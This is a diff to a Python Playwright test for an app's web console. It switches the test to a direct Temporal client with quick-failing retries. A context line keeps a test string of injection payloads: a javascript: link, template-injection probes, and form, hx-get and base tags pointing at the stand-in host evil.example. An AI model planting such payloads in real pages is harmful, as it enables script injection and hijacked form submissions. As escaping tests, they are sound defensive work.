@@ -7,9 +7,11 @@ from typing import Any, Final
 
 import pytest
 from playwright.async_api import Browser, BrowserContext, Page
+from temporalio.client import Client
+from temporalio.service import RetryConfig
 from temporalio.testing import WorkflowEnvironment
 
-from daper.adapters.temporal.connection import connect
+from daper.adapters.temporal.codec import data_converter
 from daper.adapters.temporal.embedded import embedded_server
 from daper.settings import load_settings
 from tests.console.axe import objections
@@ -28,6 +30,8 @@ MARKUP: Final = (
     "<a href=\"javascript:document.title='ran'\">here</a> {{ 7 * 7 }} ${7*7} <style>*{display:none}</style>"
     "<form action=//evil.example hx-get=//evil.example hx-trigger=load><base href=//evil.example>"
 )
+# That a server is gone shows at once: nobody need wait for what the SDK tries for seconds.
+_AT_ONCE: Final = RetryConfig(max_retries=1, max_elapsed_time_millis=100)
 # Of who signs in: what was refused; and a token has no name of its own that a browser could keep beside it.
 _EXPECTED: Final = ("a status of 4", "should have (optionally hidden) username fields")
 FAULTS: Final = (Path(__file__).parent / "faults.js").read_text(encoding="utf-8").partition("\n")[2]
@@ -137,7 +141,8 @@ async def test_nothing_is_to_be_said_against_pages_that_have_lost_temporal(
         server = await temporal.enter_async_context(embedded_server(log_file=tmp_path / "temporal.log"))
         environ = {"DAPER_HOME": str(tmp_path), "USER_NAME": "Harry", "TEMPORAL_ADDRESS": server.address}
         settings = load_settings(environ=environ, folder=tmp_path)
-        url = await stack.enter_async_context(serving(settings, await connect(settings)))
+        client = await Client.connect(server.address, data_converter=data_converter(), retry_config=_AT_ONCE)
+        url = await stack.enter_async_context(serving(settings, client))
         page = await context.new_page()
         await page.goto(url)
         await page.get_by_text("Nothing waits for you").wait_for()
